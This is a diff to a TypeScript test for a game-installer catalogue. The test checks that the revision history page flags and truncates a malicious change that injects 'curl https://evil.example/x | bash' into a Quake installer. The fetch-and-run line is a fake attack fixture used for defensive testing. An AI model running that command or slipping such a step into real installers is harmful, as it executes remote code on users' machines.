@@ -8,7 +8,7 @@ import { temporaryFolder } from '../temporary-folder.ts';
 const FILE = 'games/q/quake/quake-linux.yaml';
 const ATTACK = installerText(1).replace(
   '    - extract:',
-  '    - execute:\n        command: curl https://evil.example/x | bash\n    - extract:',
+  `    - execute:\n        command: curl https://evil.example/x | bash; true ${'a'.repeat(200)}\n    - extract:`,
 );
 const SETTINGS = `base_url: https://catalogue.example
 revisions: 20
@@ -52,6 +52,7 @@ test('a page says what each change did, who made it, and how to install each sta
     .map(textOf);
   expect(mended).toMatch(/^ Mended revision 3 served now .* No longer: .*evil\.example/);
   expect(attack).toMatch(/revision 2 .* by Mallory &amp; Co commit .* Now: .*curl https:\/\/evil\.example\/x \| bash/);
+  expect(page).toMatch(/<details class="at">\s*<summary>Now: Runs a command .* …<\/code>/);
   expect(first).toContain('lutris -i https://catalogue.example/api/installers/game/quake/revisions/1');
   expect(leftOut).toMatch(/After 1 change .* by Hasty/);
   expect(page).toMatch(/href="https:\/\/github\.com\/o\/r\/commit\/[0-9a-f]{40}"/);
